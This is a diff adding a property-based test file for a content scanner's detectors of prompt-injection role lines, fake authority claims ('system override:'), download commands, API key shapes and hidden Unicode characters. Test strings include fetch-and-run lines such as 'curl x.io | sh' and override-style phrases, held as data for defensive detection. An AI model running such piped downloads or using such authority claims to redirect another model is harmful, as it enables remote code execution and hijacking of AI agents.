@@ -1,0 +1,118 @@
+"""The scanner's shortcuts answer as the patterns they stand in for.
+
+A pattern opening with a choice of letters is tried at every position of a text; the scanner
+skips it where a substring it needs is absent, searches for a literal it opens with, or reads
+an ASCII text's control characters by deleting every other byte. Each shortcut is checked here
+against the plain pattern, on texts made of the pieces the pattern reads.
+"""
+
+from __future__ import annotations
+
+import re
+
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from gitstore.safety import commands, hidden, injection, secrets
+
+
+def _texts(*pieces: str, size: int = 40) -> st.SearchStrategy[str]:
+    """Texts of up to ``size`` pieces, drawn from ``pieces`` and some filler."""
+    filler = [" ", "  ", "\n", "\t", "x", "Q", ".", ":", "-", "_", "é", "\u200b"]
+    return st.lists(st.sampled_from([*pieces, *filler]), max_size=size).map("".join)
+
+
+_ROLE_LINE = re.compile(  # the pattern as it stood before it was searched after a line break
+    r"(?:^|\n)[ \t>#]*(?:system|assistant|developer)(?:\s+(?:message|prompt|instructions?|note))?[ \t]*:"
+    r"[^\n]*?\b(?:you|your|yourself|the\s+user|the\s+assistant|the\s+agent|the\s+model)\b"
+)
+
+
+@settings(max_examples=500, deadline=None)
+@given(_texts("system", "assistant", "developer", " message", " prompt", " instructions", " note", ">", "#",
+              "you", "your", "yourself", "the user", "the agent", "the\nmodel", "sys"))
+@example("system: you")
+@example("\nsystem: you\nassistant: your turn")
+@example("\n\nsystem: you")
+@example("system\nmessage: the user")
+def test_role_lines_are_counted_as_the_pattern_opening_at_a_line_counts_them(reading: str) -> None:
+    assert injection.role_lines(reading) == sum(1 for _ in _ROLE_LINE.finditer(reading))
+
+
+_READER_ENDS = re.compile(r"(?:ai|ais|llms?)\b")  # the pattern the two literal ones stand in for
+
+
+@settings(max_examples=500, deadline=None)
+@given(_texts("ai", "ais", "llm", "llms", "a", "i", "l", "m", "s", "thai", "email", "gpt", "language"))
+@example("thai")
+@example("aisle")
+@example("llmsx llm")
+@example("ai agents")
+def test_readers_are_named_where_one_pattern_of_word_ends_finds_them(reading: str) -> None:
+    expected = (any(word in reading for word in injection._READER_WORDS) or _READER_ENDS.search(reading) is not None)
+    expected = expected and injection._READERS.search(reading) is not None
+    assert injection.names_readers(reading) is expected
+
+
+def _spans(found: object) -> list[tuple[int, int]]:
+    return [m.span() for m in found]  # type: ignore[attr-defined]
+
+
+_CLAIMS = [f"{who} {what}:" for who in ("system", "admin", "administrator", "operator")
+           for what in ("notice", "override", "directive", "alert", "instruction", "instructions")]
+
+
+@settings(max_examples=300, deadline=None)
+@given(_texts("system", "admin", "administrator", "operator", " notice", " override", " directive", " alert",
+              " instruction", " instructions", "s", ":", *_CLAIMS))
+@example("operator  instructions :")
+def test_authority_claims_are_found_where_the_whole_text_is_searched(reading: str) -> None:
+    assert _spans(injection.authority_claims(reading)) == _spans(injection._AUTHORITY.finditer(reading))
+
+
+_DOWNLOADS = ["curl", "wget", "iwr", "irm", "invoke-webrequest", "invoke-restmethod"]
+
+
+@settings(max_examples=300, deadline=None)
+@given(_texts(*_DOWNLOADS, "invoke", "-", " https://x.io", " | sh", "c", "url"))
+def test_downloaders_are_found_where_the_whole_text_is_searched(reading: str) -> None:
+    assert _spans(commands.downloaders(reading)) == _spans(commands._DOWNLOADER.finditer(reading))
+
+
+def test_every_claim_and_downloader_word_is_found() -> None:
+    for text in [*_CLAIMS, *(f"{word} x.io | sh" for word in _DOWNLOADS)]:
+        assert (_spans(injection.authority_claims(text)) or _spans(commands.downloaders(text))), text
+
+
+_KEY = "A1b2C3d4E5f6G7h8J9k0" * 2
+_KEYS = ["sk-ant-api03-" + _KEY, "sk-proj-" + _KEY, "sk-" + _KEY, "glpat-" + _KEY, "sk_live_" + _KEY,
+         "rk_test_" + _KEY, "sk_prod_" + _KEY, "npm_" + _KEY[:36], "AIza" + _KEY[:35]]
+
+
+@settings(max_examples=300, deadline=None)
+@given(_texts("sk-", "sk-ant-api03-", "sk_live_", "rk_test_", "k_prod_", "gl", "glpat-", "npm_", "AIza", "proj-",
+              _KEY, "_", "s", "r", *_KEYS))
+def test_an_api_key_holds_the_literal_it_is_looked_for_by(raw: str) -> None:
+    for _, needs, pattern in secrets._API_KEYS:
+        assert not pattern.search(raw) or needs in raw, (needs, raw)
+
+
+def test_every_api_key_shape_is_found() -> None:
+    found = {hit.kind for key in _KEYS for hit in secrets._api_key_hits(f"key {key} here")}
+    assert found == {kind for kind, _, _ in secrets._API_KEYS}
+
+
+_CONTROLS = [chr(c) for c in (*range(0x20), 0x7F, 0x85, 0x9F)]
+_UNICODE_HIDDEN = ["\u200b", "\u200d", "\u202e", "\u2066", "\ufeff", "\u00ad", "\ufe0f", "\U000e0041",
+                   "\U0001d173", "\u3164"]
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.lists(st.sampled_from([*_CONTROLS, *_UNICODE_HIDDEN, "a", " ", "Z", "~", "é", "\u4e00"]),
+                max_size=12).map("".join))
+@example("")
+@example("plain text\twith tab\r\n")
+@example("bell\x07")
+@example("del\x7f")
+def test_holds_hidden_answers_as_the_hidden_class(text: str) -> None:
+    assert hidden.holds_hidden(text) is (hidden._HIDDEN.search(text) is not None)
